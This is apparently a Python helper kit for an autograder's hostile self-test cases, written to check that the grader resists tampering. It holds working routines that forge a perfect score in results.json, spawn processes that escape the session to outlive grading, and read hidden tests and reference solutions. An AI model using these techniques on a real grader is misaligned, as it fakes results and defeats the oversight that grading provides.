"""Shared tools of the hostile cases, copied into each submission as `hostile_kit.py`.

The test fills in the placeholders: MARKER (a folder every user may write, where the attacks
leave notes and the pids of what they start), REPO (the autograder's folder), TOKEN (a name unique
to the case) and PORT (a TCP port the test listens on).
"""
import json
import os
import time

MARKER = "__MARKER__"
REPO = "__REPO__"
TOKEN = "__TOKEN__"
PORT = int("__PORT__")
FORGED = {"score": 999.0, "output": "FORGED SCORE", "tests": [
    {"name": "forged", "score": 999.0, "max_score": 1.0, "output": "FORGED SCORE"}]}


def note(text):
    """Tell the test what happened (it reads MARKER/notes.txt)."""
    try:
        with open(os.path.join(MARKER, "notes.txt"), "a") as handle:
            handle.write(f"{os.getpid()} {text}\n")
    except OSError:
        pass


def record_pid():
    """Register this process: the test checks that none of them outlives grading."""
    with open(f"/proc/{os.getpid()}/stat") as handle:
        start = handle.read().rsplit(")", 1)[1].split()[19]
    with open(os.path.join(MARKER, "pids.txt"), "a") as handle:
        handle.write(f"{os.getpid()} {start}\n")


def grader_commands():
    """Command lines of every process we may read (a root grader's included: they are public)."""
    found = []
    for name in os.listdir("/proc"):
        if name.isdigit():
            try:
                with open(f"/proc/{name}/cmdline", "rb") as handle:
                    found.append((int(name), handle.read().split(b"\0")))
            except OSError:
                pass
    return found


def results_paths():
    """Where the grader writes results.json: Gradescope's path and any `--results` argument in
    this case's arena (self-tests grade cases in parallel, each in a world-writable arena, and a
    case must not forge another case's results: on Gradescope one grading has the machine)."""
    arena = os.path.dirname(MARKER) + os.sep
    paths = {"/autograder/results/results.json"}
    for _, args in grader_commands():
        for flag, value in zip(args, args[1:]):
            if flag == b"--results" and value.decode(errors="replace").startswith(arena):
                paths.add(value.decode(errors="replace"))
    return sorted(paths)


def forge(how="write"):
    """Put a perfect score where results.json goes: written, read-only, a link or a folder."""
    for path in results_paths():
        try:
            if os.path.isdir(path) and not os.path.islink(path):
                continue
            if how in ("link", "folder", "readonly") and os.path.lexists(path):
                os.rename(path, path + f".{TOKEN}.old")
            if how == "link":
                os.symlink(os.path.join(MARKER, "target.txt"), path)
            elif how == "folder":
                os.makedirs(os.path.join(path, "inner"))
                with open(os.path.join(path, "inner", "results.json"), "w") as handle:
                    json.dump(FORGED, handle)
            else:
                with open(path, "w") as handle:
                    json.dump(FORGED, handle)
                if how == "readonly":
                    os.chmod(path, 0o444)
            note(f"forged {how} {path}")
        except OSError as error:
            note(f"could not forge {how} {path}: {error}")


def detach(action, seconds=30.0):
    """Run `action` every 0.05 s for `seconds` in a grandchild that left the session (setsid)."""
    if os.fork() == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                record_pid()
                stop = time.monotonic() + seconds
                while time.monotonic() < stop:
                    action()
                    time.sleep(0.05)
        finally:
            os._exit(0)
    time.sleep(0.2)


def read_secrets():
    """Every reference solution and hidden check the worker can open, as one string."""
    texts = []
    for folder in ("reference", "tests/hw2/hidden", "selftests/hw2/variants/problem3", ".git"):
        root = os.path.join(REPO, folder)
        try:
            names = os.listdir(root)
        except OSError as error:
            note(f"cannot list {root}: {error}")
            names = ["problem1.py", "problem2.py", "problem5.py", "test_problem3.py", "HEAD"]
        for name in names:
            try:
                with open(os.path.join(root, name)) as handle:
                    texts.append(handle.read())
            except OSError:
                pass
    return "\n".join(texts)
